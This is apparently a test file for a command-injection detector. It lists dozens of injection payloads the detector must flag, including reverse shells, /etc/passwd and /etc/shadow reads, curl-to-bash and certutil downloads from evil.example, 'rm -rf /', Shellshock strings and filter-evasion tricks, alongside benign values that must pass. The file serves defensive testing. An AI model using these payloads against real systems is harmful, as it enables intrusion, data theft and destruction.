import { describe, expect, test } from "vitest";
import { look, signsIn, valueOf } from "../test-values.ts";
import { commands } from "./index.ts";
import { globMatches } from "./programs.ts";
import { commandAt } from "./words.ts";

describe("commands that are found", () => {
  test.each([
    "127.0.0.1;cat /etc/passwd",
    "127.0.0.1; id",
    "x;whoami",
    "8.8.8.8|id",
    "8.8.8.8 | id",
    "x|cat /etc/shadow",
    "x||uname -a",
    "x&&whoami",
    "1 & ping -c 10 127.0.0.1 &",
    "x\nid",
    "x\r\ncat /etc/hosts",
    "$(whoami)",
    "$(sleep 5)",
    "x$(curl http://evil.example/x)",
    "`id`",
    "x`wget http://evil.example`",
    "x;cat${IFS}/etc/passwd",
    "x;cat$IFS$9/etc/passwd",
    "x;{cat,/etc/passwd}",
    "x;c'a't /etc/passwd",
    'x;w"h"oami',
    "x;wh\\oami",
    "x;w\\ho\\am\\i",
    "x;ca$@t /etc/passwd",
    "x;c${u}at /etc/passwd",
    "x;/???/c?t /???/p?s?w?",
    "x;/bin/c[a]t /etc/passwd",
    "x;/b*/ca* /e*/p*d",
    "x;a=c;b=at;$a$b /etc/passwd",
    "x;cat</etc/passwd",
    "x;bash<<<id",
    "x;bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "x;nc 10.0.0.1 4444 -e /bin/sh",
    "x;echo aWQ=|base64 -d|sh",
    "x;/usr/bin/frobnicate",
    "x;python3 -c 'import os;os.system(\"id\")'",
    "x;perl -e 'print 1'",
    "x;rm -rf /",
    "x;busybox wget http://evil.example/a",
    "';id;'",
    '";id;"',
    "x;tac /etc/passwd",
    "x;rev /etc/passwd",
    "x;sleep 10",
    "x;chmod 777 /tmp/x",
    "x;${PATH:0:1}bin${PATH:0:1}id",
    "$(</etc/passwd)",
    "x& type c:\\windows\\win.ini",
    "x&dir c:\\",
    "x & ipconfig /all",
    "x|net user",
    "x&cmd /c whoami",
    "x;powershell -nop -w hidden -enc SQBFAFgA",
    "x&w^h^o^a^m^i",
    "x|for %i in (1 2 3) do whoami",
    "x&certutil -urlcache -f http://evil.example/a a.exe",
    "x;curl http://evil.example/x.sh|bash",
    "x;nslookup abc.evil.example",
    "x;wget http://evil.example/m -O /tmp/m;chmod +x /tmp/m;/tmp/m",
  ])("%s", (text) => {
    const found = signsIn(commands, text, "query", "host");
    expect(found.length).toBeGreaterThan(0);
    expect(found.every((sign) => sign.startsWith("command_injection"))).toBe(true);
    expect(signsIn(commands, text, "query", "q").length).toBeGreaterThanOrEqual(
      /(?:^x\nid|8 ?\| ?id)$/.test(text) ? 0 : 1,
    );
  });

  test.each([
    ["cmd", "id"],
    ["cmd", "cat /etc/passwd"],
    ["exec", "whoami"],
    ["command", "uname -a"],
    ["c", "/bin/ls -la /"],
    ["file", "cat /etc/passwd"],
    ["x", "wget http://evil.example/a -O /tmp/a"],
  ])("a parameter that is a command: %s=%s", (name, text) => {
    expect(signsIn(commands, text, "query", name)).toEqual(["command_injection: command as a parameter"]);
  });

  test("Shellshock in a header", () => {
    expect(signsIn(commands, "() { :; }; echo vulnerable", "header", "user-agent")).toContain(
      "command_injection: Shellshock function",
    );
    expect(signsIn(commands, "() { _; } >_[$($())] { id; }", "cookie", "x")).toContain(
      "command_injection: Shellshock function",
    );
  });

  test("a command as a parameter's name", () => {
    expect(signsIn(commands, "cat /etc/passwd", "query_name")).toEqual([
      "command_injection: command after &",
    ]);
  });

  test("says what it would do and with which technique", () => {
    const [found] = look(commands, [valueOf("x;rm -rf /var", "query", "f")]);
    expect(found).toMatchObject({
      impact: "destruction",
      technique: "T1059.004",
      start: 1,
      evidence: ";rm -rf /var",
    });
    const [windows] = look(commands, [valueOf("x&ipconfig /all", "query", "f")]);
    expect(windows).toMatchObject({ impact: "execution", technique: "T1059.003" });
  });
});

describe("ordinary values", () => {
  test.each<[string, string, Parameters<typeof valueOf>[1]?]>([
    ["q", "a;b"],
    ["fields", "name;id;email"],
    ["fields", "name|id|email"],
    ["sort", "name;id"],
    ["q", "salt & pepper"],
    ["q", "AT&T"],
    ["company", "Johnson & Johnson"],
    ["q", "dogs || cats & more"],
    ["title", "Wait; find the page"],
    ["q", "cat pictures"],
    ["q", "how to sort -n in bash"],
    ["q", "index=main | head 10 | sort -count | top 5"],
    ["family", "Open Sans|Roboto"],
    ["style", "color:red; top: 5px; left: 3px"],
    ["filter", "(&(objectClass=user)(|(cn=a)(mail=b)))"],
    ["price", "$5"],
    ["q", "$(document).ready(function(){})"],
    ["code", "$(id).hide(); $('#env').show();", "body"],
    ["user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/117.0", "header"],
    ["user-agent", "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0; .NET CLR 3.5)", "header"],
    ["accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8", "header"],
    ["content-type", "multipart/form-data; boundary=----WebKitFormBoundary", "header"],
    ["cookie", "dark", "cookie"],
    [
      "body",
      "Install it with:\n\n```bash\ncurl -fsSL https://get.example.com | sh\n```\n\nThen run `ls -la`.",
      "body",
    ],
    ["content", "Use `cat file.txt` or `ls -la` to look at it", "body"],
    ["run", "npm ci && npm test", "body"],
    ["script", "cd app && rm -rf dist && npm run build", "body"],
    ["text", "I run; then sleep 8 hours. Cats & dogs | more", "body"],
    ["loginshell", "/bin/bash", "body"],
    ["address", "12 Main St\nSpringfield", "body"],
    ["pattern", "(foo|cat|ls)"],
    ["name", "O'Reilly; Tim"],
    ["cmd", "open"],
    ["lang", "en;id=42"],
    ["table", "| id | name |\n| -- | -- |\n| 1 | x |", "body"],
    ["msg", "Dear ${name}, order `A12` is on its way", "body"],
  ])("%s=%s", (name, text, place) => {
    expect(signsIn(commands, text, place ?? "query", name)).toEqual([]);
  });
});

describe("reading as a shell", () => {
  test("takes quotes and empty expansions out", () => {
    expect(commandAt("c'a't \"/etc\"/ho\\sts", 0)?.words).toEqual(["cat", "/etc/hosts"]);
    expect(commandAt("{cat,/etc/hosts}", 0)?.words).toEqual(["cat", "/etc/hosts"]);
    expect(commandAt("ca$@t$IFS$9/x", 0)?.words).toEqual(["cat", "/x"]);
  });
  test("ends at separators and unclosed quotes", () => {
    expect(commandAt("id;ls", 0)).toMatchObject({ words: ["id"], ender: ";" });
    expect(commandAt("id' or", 0)).toMatchObject({ words: ["id"], ender: "'" });
  });
  test("fills wildcards in", () => {
    expect(globMatches("c?t", "cat")).toBe(true);
    expect(globMatches("*a[r-u]*", "cat")).toBe(true);
    expect(globMatches("c?t", "cart")).toBe(false);
    expect(globMatches("[!c]at", "cat")).toBe(false);
  });
  test("is bounded on hostile input", () => {
    const hostile = [
      "; ".repeat(30_000),
      "$(".repeat(30_000),
      "`".repeat(60_000),
      "{a,".repeat(20_000),
      "'".repeat(60_000),
    ];
    for (const text of hostile) expect(look(commands, [valueOf(text)]).length).toBeLessThan(20);
  });
});
